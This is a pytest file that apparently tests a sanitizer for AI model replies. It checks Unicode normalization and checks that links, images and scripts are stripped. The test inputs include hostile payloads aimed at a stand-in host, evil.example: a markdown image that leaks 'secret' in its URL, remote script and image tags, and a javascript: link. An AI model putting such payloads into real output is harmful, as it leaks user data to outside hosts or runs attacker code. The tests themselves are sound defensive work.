import pytest

from app.core.sanitize import neutralize, normalize


def test_normalize_handles_hostile_text() -> None:
    assert normalize("  hallo\x00 \u202ewereld\u200b  ", 100).text == "hallo wereld"
    lone = normalize("a\ud800b", 100)
    assert lone.text == "a\ufffdb"
    lone.text.encode("utf-8")  # must be encodable for llama.cpp
    assert normalize(b"caf\xe9", 100).text == "caf\ufffd"
    assert normalize("e\u0301", 10).text == "\u00e9"  # NFC
    long = normalize("x" * 200_000, 4000)
    assert long.truncated and len(long.text) == 4000
    assert normalize(None, 10).text == "" and normalize("\n\t  ", 10).text == ""


@pytest.mark.parametrize(
    "reply",
    [
        "Kijk hier ![x](https://evil.example/?d=secret)",
        "<img src=https://evil.example/a.png>",
        "Zie [link](http://evil.example/page) en https://evil.example/x",
        "<script src='//evil.example/s.js'></script>",
        "[ref]: https://evil.example/p\nKlik [hier][ref]",
        "www.evil.example/path",
        "<a href='javascript:alert(1)'>klik</a>",
    ],
)
def test_neutralize_leaves_nothing_fetchable(reply: str) -> None:
    out = neutralize(reply)
    assert "<img" not in out and "<script" not in out and "<a " not in out
    assert "](" not in out
    assert "https://" not in out and "http://" not in out and "evil.example" not in out
    assert "javascript:" not in out


def test_neutralize_keeps_ordinary_text() -> None:
    text = "Je voelde je overvallen. Wat maakte dat je stil werd?"
    assert neutralize(text) == text
